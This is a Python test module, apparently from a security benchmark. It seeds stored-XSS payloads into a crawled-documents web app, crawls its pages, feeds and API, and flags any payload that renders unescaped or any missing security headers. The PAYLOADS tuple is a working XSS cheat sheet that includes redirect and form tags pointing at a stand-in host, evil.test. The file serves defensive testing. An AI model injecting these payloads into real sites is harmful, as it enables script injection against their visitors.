"""Markup and scripts in texts of crawled sites: titles, texts, publishers and attachment names.

They are looked for in pages, feeds and the API.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from urllib.parse import urlsplit

import lxml.etree
import lxml.html
from fastapi.testclient import TestClient
from httpx import Response

from bench.attacks import Attempt, Ground
from bench.in_process import BASE_URL, browser, fill, opened

TITLE = "stored markup and scripts (XSS)"
BOTH_DATABASES = False

MARK = "7331"
PAYLOADS = (
    f"<script>alert({MARK})</script>", f"</title><script>alert({MARK})</script>", f"</textarea><script>alert({MARK})</script>",
    f"<img src=x onerror=alert({MARK})>", f'"><img src=x onerror=alert({MARK})>', f"'><svg onload=alert({MARK})>",
    f"<svg><script>alert({MARK})</script></svg>", f'" autofocus onfocus=alert({MARK}) x="', f"' onmouseover='alert({MARK})",
    f"javascript:alert({MARK})", f"<a href=javascript:alert({MARK})>x</a>", f"<a href='java&#115;cript:alert({MARK})'>x</a>",
    f"<iframe srcdoc='<script>alert({MARK})</script>'>", f"<math><mi xlink:href=javascript:alert({MARK})>", f"]]><script>alert({MARK})</script>",
    f"--><script>alert({MARK})</script>", f"&lt;script&gt;alert({MARK})&lt;/script&gt;", f"<style>@import '//e.org/{MARK}'</style>",
    f"<base href=//evil.test/{MARK}/>", f"<meta http-equiv=refresh content=0;url=//evil.test/{MARK}>", f"<form action=//evil.test/{MARK}><button>",
    f"<link rel=stylesheet href=//evil.test/{MARK}>", f"<object data=//evil.test/{MARK}>", f"<noscript><p title='</noscript><img src=x onerror=alert({MARK})>'>",
    f"{{{{ {MARK} * 1 }}}}", f"{{% print({MARK}) %}}", f"\u2028<script>alert({MARK})</script>", f"\x00<scr\x00ipt>alert({MARK})</script>",
    f"＜script＞alert({MARK})＜/script＞", f"<ins onclick=alert({MARK})>x</ins>", f"<details open ontoggle=alert({MARK})>", f"<!--[if IE]>{MARK}<![endif]-->",
    f"<b id=getElementById>{MARK}</b>", f"%3Cscript%3Ealert({MARK})%3C/script%3E", f"<xmp><script>alert({MARK})</script>", f"<plaintext>{MARK}",
)  # fmt: skip
DANGEROUS = (
    "script",
    "iframe",
    "object",
    "embed",
    "base",
    "form",
    "style",
    "link",
    "meta",
    "math",
    "xmp",
    "plaintext",
)
START = (
    "/", "/plans", "/documents", "/search?q=教育", "/search?q=alert", "/sources", "/regions", "/publishers", "/trends?q=教育",
    "/digest", "/feeds/changes.atom", "/feeds/changes.rss", "/feeds/changes.json", "/api/v1/documents", "/api/v1/versions",
    "/api/v1/changes", "/api/v1/plans", "/api/v1/search?q=教育", "/search.csv?q=教育",
)  # fmt: skip


def attempt(ground: Ground) -> Iterator[Attempt]:
    """Read every page that can be reached, as browsers and feed readers parse it."""
    with opened(ground) as pages:
        fill(pages, PAYLOADS[:: 8 if ground.is_short else 1])
        visitor = browser(pages.start())
        most = 60 if ground.is_short else 2_000
        waiting, seen, shown = [*START], {*START}, 0
        while waiting and len(seen) <= most + len(waiting):
            answer = visitor.get(address := waiting.pop(0))
            shown += MARK in answer.text
            yield Attempt(address, _breach(visitor, answer))
            for link in _links(answer):
                if link not in seen:
                    seen.add(link)
                    waiting.append(link)
        assert shown > 10, "the payloads are on the pages"


def _breach(visitor: TestClient, answer: Response) -> str:
    if answer.status_code >= 500:
        return f"answered {answer.status_code}"
    media = answer.headers.get("Content-Type", "")
    if answer.headers.get("X-Content-Type-Options") != "nosniff":
        return "its kind may be guessed"
    if "html" in media:
        if "Memento-Datetime" in answer.headers or "sandbox" in answer.headers["Content-Security-Policy"]:
            return (
                "" if "default-src 'none'" in answer.headers["Content-Security-Policy"] else "is not confined"
            )
        return _in_html(answer.text)
    if "xml" in media:
        tree = lxml.etree.fromstring(answer.content)
        # Atom says what is HTML; in RSS it is the description.
        parts = [
            part.text or ""
            for part in tree.iter("{*}*")
            if part.get("type") in ("html", "xhtml") or str(part.tag).endswith(("description", "encoded"))
        ]
        return next((breach for part in parts if (breach := _in_feed(part))), "")
    if "feeds" in answer.url.path:
        items = json.loads(answer.text)["items"]
        return next((breach for item in items if (breach := _in_feed(item.get("content_html", "")))), "")
    return (
        ""
        if "json" in media
        or "attachment" in answer.headers.get("Content-Disposition", "")
        or "plain" in media
        else f"is {media}"
    )


def _in_html(html: str) -> str:
    """Return what a payload, marked by MARK, would run or link to in the page; "" if nothing."""
    for element in lxml.html.fromstring(html).iter():
        if not isinstance(element.tag, str):
            continue
        if element.tag in DANGEROUS and _bears_mark(element):
            return f"<{element.tag}> with a payload"
        for name, value in element.attrib.items():
            if str(name).lower().startswith("on"):
                return f"{name}={value[:40]}"
            if name in ("href", "src", "action", "formaction", "data", "srcdoc") and urlsplit(
                value.strip()
            ).scheme.lower() not in ("", "http", "https", "mailto"):
                return f"{name}={value[:40]}"
    return ""


def _bears_mark(element: lxml.html.HtmlElement) -> bool:
    """Return True if a payload made the element.

    Our own forms and links may contain a payload's text, so they count only if they lead to another site.
    """
    if element.tag in ("form", "link"):
        leads = element.get("action", element.get("href", "/"))
        return not leads.removeprefix(BASE_URL).startswith("/") or leads.startswith("//")
    return MARK in lxml.html.tostring(element, encoding="unicode", with_tail=False)


def _in_feed(text: str) -> str:
    return _in_html(f"<div>{text}</div>") if text.strip() else ""


def _links(answer: Response) -> list[str]:
    if "html" not in answer.headers.get("Content-Type", ""):
        return []
    found = lxml.html.fromstring(answer.text).xpath("//main//a/@href | //iframe/@src")
    return [
        link.split("#")[0] for link in map(str, found) if link.startswith("/") and not link.startswith("//")
    ]
